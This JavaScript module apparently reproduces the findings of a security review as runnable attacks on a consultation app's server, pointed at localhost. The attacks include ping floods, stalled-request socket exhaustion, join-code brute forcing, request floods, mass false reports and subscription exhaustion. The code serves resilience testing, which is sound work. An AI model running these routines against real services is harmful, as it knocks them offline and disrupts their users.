// What one participant can do to stop the others, as small functions: the reproductions of the security review, each made
// to run until it is told to stop, over refusals, cuts and restarts of the server.
//
// An attack is `(target, { over, count })`: it goes on until `over()`, and notes with `count(what)` what became of it.
// `target` is plain data (`targetOf`), so that an attack can run in a process of its own (`attacker.mjs`).

import { randomInt, randomUUID } from 'node:crypto';
import http from 'node:http';
import net from 'node:net';
import WebSocket from 'ws';
import { fragmenting } from './fragments.mjs';
import { bytesOf, frame, PONG } from './wire.mjs';

const AGAIN_MS = 50;
const ALPHABET = 'ABCDEFGHJKMNPQRSTUVWXYZ23456789';

/**
 * What an attacker knows: where the server is, the key of the QR code, own seats, an idea to work on. `paceMs`: a rest after
 * each request and each thousand pings, and fewer new sockets at once, for tests in which the attacker's own work is not to take the server's processor.
 */
export function targetOf(stage, { seats, idea, other, address = '127.0.0.1', paceMs = 0 }) {
  const { port, url, sockets } = stage.server;
  return { port, url, sockets, key: stage.key, consultation: stage.id, seats, idea, other, address, paceMs };
}

const pause = (milliseconds = AGAIN_MS) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** Ends when `over()` does. */
async function finish(over) {
  while (!over()) await pause();
}

/** A kept connection: one request after the other, from the attacker's address. Gives `{status, code}`; `cut` for none. */
function hand({ url, address }) {
  const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
  const ask = (method, path, { token, body } = {}) =>
    new Promise((resolve) => {
      const bytes = body === undefined ? undefined : JSON.stringify(body);
      const headers = { ...(token && { authorization: `Bearer ${token}` }) };
      if (bytes !== undefined) Object.assign(headers, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(bytes) });
      const call = http.request(`${url}${path}`, { method, agent, headers, localAddress: address }, (answer) => {
        const parts = [];
        answer.on('data', (part) => parts.push(part));
        answer.on('error', () => resolve({ status: 'cut' }));
        answer.on('end', () => resolve({ status: answer.statusCode, text: Buffer.concat(parts).toString() }));
      });
      call.on('error', () => resolve({ status: 'cut' }));
      call.end(bytes);
    });
  return { ask, end: () => agent.destroy() };
}

/** The same request again and again on some kept connections; `request(turn, connection)` says which. */
async function asking(target, { over, count }, connections, request) {
  const ended = finish(over);
  const one = async (_, connection) => {
    const { ask, end } = hand(target);
    for (let turn = 0; !over(); turn += 1) {
      const [method, path, options] = request(turn, connection);
      const answer = await Promise.race([ask(method, path, options), ended]);
      if (!answer) break;
      const { status } = answer;
      count(status);
      if (status === 'cut') await pause();
      else if (target.paceMs > 0) await pause(target.paceMs);
    }
    end();
  };
  await Promise.all(Array.from({ length: connections }, one));
}

/** A socket whose frames nobody keeps; answers the server's own pings. `undefined` when it could not be opened. */
function opened({ sockets, address }) {
  return new Promise((resolve) => {
    const socket = new WebSocket(`${sockets}/sync`, { perMessageDeflate: false, localAddress: address });
    socket.on('message', (data) => {
      const bytes = bytesOf(data);
      if (bytes.length === 1 && bytes[0] === 9) socket.send(PONG);
    });
    socket.on('open', () => resolve(socket));
    socket.on('error', () => resolve(undefined));
  });
}

/** Keeps sockets open and works on each of them; a socket that is cut is opened again. */
async function holding(target, { over, count }, sockets, work) {
  const one = async (_, number) => {
    while (!over()) {
      const socket = await opened(target);
      if (!socket) {
        count('not opened');
        await pause();
        continue;
      }
      const closed = new Promise((resolve) => {
        socket.on('close', (code) => {
          count(`closed ${code}`);
          resolve();
        });
      });
      await Promise.race([closed, work(socket, number).then(() => finish(() => over() || socket.readyState !== WebSocket.OPEN))]);
      socket.terminate();
    }
  };
  await Promise.all(Array.from({ length: sockets }, one));
}

/** Finding 4: ping frames of the WebSocket itself, without pause. */
export async function pings(target, { over, count, sockets = 8 }) {
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => Buffer.from('898000000000', 'hex')));
  const work = async (socket) => {
    while (!over() && socket.readyState === WebSocket.OPEN) {
      const wire = socket._socket;
      const drained = wire.write(many);
      count('pings', 1_000);
      if (target.paceMs > 0) await pause(target.paceMs);
      else if (drained) await new Promise(setImmediate);
      if (!drained) await finish(() => over() || wire.destroyed || wire.writableLength === 0);
    }
  };
  await holding(target, { over, count }, sockets, work);
}

/** Finding 3: a board over HTTP, as fast as it goes. */
export function reads(target, hands) {
  const [seat] = target.seats;
  return asking(target, hands, 4, () => ['GET', `/api/boards/${seat.group}`, { token: seat.token }]);
}

/** Finding 3: fifty connections want the list as a Word document. */
export function exports(target, hands) {
  const [seat] = target.seats;
  return asking(target, hands, 50, () => ['GET', `/api/plenary/${target.consultation}/export.docx`, { token: seat.token }]);
}

/** Without any account: the doorstep by the key of the QR code, and what became of ideas that are nobody's. */
export function strangers(target, hands) {
  const ideas = Array.from({ length: 200 }, () => ({ idea: randomUUID(), receipt: '0'.repeat(64) }));
  return asking(target, hands, 8, (turn) =>
    turn % 2 === 0
      ? ['GET', `/api/join/${target.key}`]
      : ['POST', '/api/follow', { body: { consultation: target.consultation, ideas } }],
  );
}

const commanding = (target, hands, command) => {
  const [seat] = target.seats;
  return asking(target, hands, 4, (turn, at) => ['POST', '/api/commands', { token: seat.token, body: { id: randomUUID(), ...command(turn, at) } }]);
};

/** Finding 5: calls for help that call already: nothing changes, and everybody is told. */
export const helps = (target, hands) => commanding(target, hands, () => ({ do: 'help', group: target.seats[0].group, on: true }));

/** Finding 5: to another group and back. */
export const wanders = (target, hands) =>
  commanding(target, hands, (turn) => ({ do: 'change-group', group: turn % 2 === 0 ? target.other : target.seats[0].group }));

/** Finding 6: an approval, on and off. Ends with *off*. */
export async function toggles(target, hands) {
  let n = 0;
  const approve = () => {
    n += 1;
    return { do: 'approve', idea: target.idea, on: n % 2 === 1, counter: n };
  };
  await commanding(target, hands, approve);
  const { ask, end } = hand(target);
  const [seat] = target.seats;
  for (let status = 0; status !== 200 && n < 1e9; ) {
    n += 2;
    ({ status } = await ask('POST', '/api/commands', { token: seat.token, body: { id: randomUUID(), do: 'approve', idea: target.idea, on: false, counter: n } }));
    if (status === 409 || status === 403 || status === 404) break;
    if (status !== 200) await pause(200);
  }
  end();
}

/** Finding 7: as many subscriptions to one board as the connections of a seat allow. */
export function subscriptions(target, hands) {
  const [seat] = target.seats;
  const work = async (socket) => {
    for (let number = 0; number < 60; number += 1) socket.send(frame.token(`board/${seat.group}\0${number}`, seat.token));
    hands.count('asked', 60);
  };
  return holding(target, hands, 24, work);
}

/** Sockets that send the beginning of a request and nothing more; opened again when they are cut. */
async function stalling({ port, address, paceMs }, { over, count }, sockets, words) {
  const open = new Set();
  const one = () => {
    const socket = net.connect({ port, host: '127.0.0.1', localAddress: address }, () => {
      count('opened');
      socket.write(words);
    });
    socket.on('error', () => {});
    socket.on('data', () => count('answered'));
    socket.on('close', () => {
      open.delete(socket);
      count('cut');
    });
    socket.resume();
    open.add(socket);
  };
  while (!over()) {
    for (let many = 0; open.size < sockets && many < (paceMs > 0 ? 20 : 200); many += 1) one();
    await pause(20);
  }
  for (const socket of open) socket.destroy();
}

/** Finding 8: bodies that never end. */
export const bodies = (target, hands) =>
  stalling(target, hands, 4_100, 'POST /api/join HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{');

/** Finding 8: questions that are answered when there is news, of one seat. */
export function polls(target, hands) {
  const [seat] = target.seats;
  const head = `GET /api/boards/${seat.group}?after=99999999 HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${seat.token}\r\n\r\n`;
  return stalling(target, hands, 4_050, head);
}

/** Finding 9: codes by chance, without pause. */
export function guesses(target, hands) {
  const code = () => Array.from({ length: 6 }, () => ALPHABET[randomInt(ALPHABET.length)]).join('');
  return asking(target, hands, 300, () => ['GET', `/api/join/${code()}`]);
}

/** Finding 10: a thousand seats, then what the server says to more. */
export function crowd(target, hands) {
  return asking(target, hands, 20, () => ['POST', '/api/join', { body: { key: target.key } }]);
}

/** Finding 11: everything that is on the board is reported as dangerous, by every own seat in turn. */
export async function alarms(target, { over, count }) {
  const { ask, end } = hand(target);
  for (let turn = 0; !over(); turn += 1) {
    const seat = target.seats[turn % target.seats.length];
    const board = await ask('GET', `/api/boards/${seat.group}`, { token: seat.token });
    const ideas = board.status === 200 ? JSON.parse(board.text).ideas : [];
    for (const { id } of ideas) {
      if (over()) break;
      const { status } = await ask('POST', '/api/commands', { token: seat.token, body: { id: randomUUID(), do: 'report', idea: id, why: 'danger' } });
      count(status);
    }
    await pause(200);
  }
  end();
}

/** Finding 2: long texts, shared by every own seat until the board takes no more. */
export async function loads(target, { over, count }) {
  const text = '漢'.repeat(1_000);
  const one = async (seat) => {
    const { ask, end } = hand(target);
    while (!over()) {
      const share = { id: randomUUID(), do: 'share', idea: randomUUID(), group: seat.group, lang: 'zh', text, receipt: randomUUID().replaceAll('-', '').repeat(2) };
      const { status } = await ask('POST', '/api/commands', { token: seat.token, body: share });
      count(status);
      if (status !== 200) await pause(200);
    }
    end();
  };
  await Promise.all(target.seats.map(one));
}

/** Finding 1: a text in thousands of pieces, then frames that are to be compared with all of them. */
export async function fragments(target, hands) {
  await fragmenting(target, { ...hands, opened: () => opened(target), pause });
}

/** All of them, by name. */
export const ATTACKS = {
  fragments,
  loads,
  reads,
  exports,
  strangers,
  pings,
  helps,
  wanders,
  toggles,
  subscriptions,
  bodies,
  polls,
  guesses,
  crowd,
  alarms,
};
